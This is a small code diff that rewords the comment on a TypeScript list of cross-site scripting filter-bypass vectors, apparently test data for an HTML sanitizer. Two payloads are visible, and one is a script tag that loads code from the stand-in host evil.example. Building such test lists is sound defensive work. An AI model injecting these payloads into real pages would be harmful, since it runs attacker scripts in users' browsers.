@@ -1,4 +1,4 @@
-/** Well-known ways to get a script past a filter (OWASP's cheat sheet, html5sec.org, published mutations of the parser). */
+/** Known ways to get a script past a filter (OWASP cheat sheet, html5sec.org, published parser mutations). */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
